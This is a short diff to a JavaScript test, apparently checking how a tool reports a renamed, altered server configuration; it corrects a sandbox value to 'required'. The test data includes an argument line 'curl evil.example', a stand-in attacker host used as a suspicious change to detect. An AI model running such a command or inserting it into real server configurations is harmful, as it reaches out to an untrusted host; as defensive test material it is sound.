@@ -264,7 +264,7 @@ describe('T24: a changed server under another name', () => {
       '+ args.1: "curl evil.example"',
       '+ cwd: "/tmp"',
       '+ env.TZ: "UTC"',
-      '+ sandbox: said',
+      '+ sandbox: required',
       '+ sandbox.write.0: "/srv"',
     ])
     await settle({ notes, added }, { ask: ask(true) })
